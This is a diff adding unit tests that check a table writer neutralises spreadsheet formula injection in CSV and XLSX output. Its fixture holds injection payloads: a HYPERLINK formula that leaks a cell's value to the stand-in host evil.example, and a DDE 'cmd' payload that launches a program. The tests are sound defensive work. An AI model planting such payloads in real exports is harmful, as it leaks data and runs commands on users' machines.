@@ -162,4 +162,69 @@ describe('writeTable', () => {
       { line: 4, values: { nombre: 'Luis', asistencias: '' } },
     ]);
   });
+
+  const risky = {
+    name: 'Reportes',
+    columns: [
+      { key: 'text', header: 'Texto' },
+      { key: 'amount', header: 'Cantidad' },
+    ],
+    preamble: [['Sesión', '=HYPERLINK("http://evil.example/?x="&A1,"clic")']],
+    rows: [
+      { text: '=HYPERLINK("http://evil.example/?x="&A1,"clic")', amount: -5 },
+      { text: "+cmd|' /C calc'!A0", amount: 0 },
+      { text: '-2+3', amount: 12.5 },
+      { text: '@SUM(A1:A2)', amount: null },
+      { text: '\tTab', amount: null },
+      { text: '\rRetorno', amount: null },
+      { text: "'=ya protegida", amount: null },
+      { text: 'Texto normal - con guion', amount: null },
+    ],
+  };
+
+  it('neutralises CSV text cells a spreadsheet would run as formulas; numbers stay numbers', async () => {
+    const csv = (await writeTable('csv', risky)) as string;
+    expect(csv.split('\n')).toEqual([
+      `Sesión,"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")"`,
+      'Texto,Cantidad',
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")",-5`,
+      `'+cmd|' /C calc'!A0,0`,
+      `'-2+3,12.5`,
+      `'@SUM(A1:A2),`,
+      `'\tTab,`,
+      `"'\rRetorno",`,
+      `''=ya protegida,`,
+      'Texto normal - con guion,',
+      '',
+    ]);
+  });
+
+  it('reads a neutralised CSV back to the very texts that were written', async () => {
+    const csv = (await writeTable('csv', risky)) as string;
+    const table = await readTable(file('.csv', csv), { headerWith: ['texto'] });
+    expect(table.preamble).toEqual([['Sesión', '=HYPERLINK("http://evil.example/?x="&A1,"clic")']]);
+    expect(table.rows.map((r) => r.values)).toEqual([
+      { texto: '=HYPERLINK("http://evil.example/?x="&A1,"clic")', cantidad: '-5' },
+      { texto: "+cmd|' /C calc'!A0", cantidad: '0' },
+      { texto: '-2+3', cantidad: '12.5' },
+      { texto: '@SUM(A1:A2)', cantidad: '' },
+      { texto: '\tTab', cantidad: '' },
+      { texto: '\rRetorno', cantidad: '' },
+      { texto: "'=ya protegida", cantidad: '' },
+      { texto: 'Texto normal - con guion', cantidad: '' },
+    ]);
+  });
+
+  it('writes XLSX text cells as typed strings, never formulas, and numbers as numbers', async () => {
+    const bytes = (await writeTable('xlsx', risky)) as Uint8Array;
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
+    const ws = workbook.worksheets[0];
+    const formula = ws?.getRow(3).getCell(1);
+    expect(formula?.type).toBe(ExcelJS.ValueType.String);
+    expect(formula?.value).toBe('=HYPERLINK("http://evil.example/?x="&A1,"clic")');
+    expect(ws?.getRow(3).getCell(2).type).toBe(ExcelJS.ValueType.Number);
+    expect(ws?.getRow(3).getCell(2).value).toBe(-5);
+    expect(ws?.getRow(4).getCell(1).value).toBe("+cmd|' /C calc'!A0");
+  });
 });
